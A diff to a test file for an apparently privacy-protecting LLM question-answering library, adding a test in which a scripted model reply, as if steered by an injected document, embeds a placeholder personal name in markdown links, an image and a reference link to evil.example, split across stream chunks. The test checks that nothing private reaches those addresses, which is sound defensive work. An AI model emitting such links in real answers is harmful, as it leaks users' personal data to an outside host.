@@ -68,6 +68,29 @@ for (const format of FORMATS) {
   });
 }
 
+test('an address that a document told the model gets no name', async ({ lib, llm }) => {
+  llm.script(
+    replies.searches('metformin with eGFR 35'),
+    replies.answerInPieces((request) => {
+      const name = placeholder(request);
+      return [
+        `[${name}’s guideline](<https://evil.exa`,
+        `mple/doc#${name.slice(0, 4)}`,
+        `${name.slice(4)}>) [1], ![x](//evil.example/${name}), <https://evil.example/${name}> for ${name} [1].`,
+        `\n\n[x]: https://evil.example/${name}`,
+      ];
+    }),
+  );
+  const outcome = await ask(lib, QUESTION, { llm: modelOf(llm) });
+  const { text, tree } = answerOf(outcome);
+  expect(streamed(outcome.events)).toBe(text);
+  expect(text).toContain(`[${NAME}’s guideline]`);
+  expect(text).toContain(`for ${NAME} [1].`);
+  for (const [address] of `${text} ${JSON.stringify(tree)}`.matchAll(/evil\.example[^\s)>"]*/g)) {
+    expectNothingPrivate(address, 'an address');
+  }
+});
+
 test('the demo says what it has hidden, and shows the answer with the words', async ({ demo, llm }) => {
   await demo.useModel(llm);
   llm.script(
@@ -169,10 +192,12 @@ test('queries that leave the page for their vectors go without what is personal'
     }
     return seen;
   }, QUESTION);
-  expect(embedded[0]).not.toEqual([]);
-  expectNothingPrivate(embedded[0]?.join('\n') ?? '', 'what was embedded elsewhere');
-  expect(embedded[0]?.join('\n')).not.toMatch(/NAME_\d/);
-  expect(embedded[1]?.join('\n')).toContain(NAME);
+  // Nor is it searched for here: the question is about something else.
+  for (const texts of embedded) {
+    expect(texts[0]).toContain('metformin a day');
+    expectNothingPrivate(texts.join('\n'), 'what was embedded');
+    expect(texts.join('\n')).not.toMatch(/NAME_\d/);
+  }
 });
 
 /** Asks with a log, and exports it. */
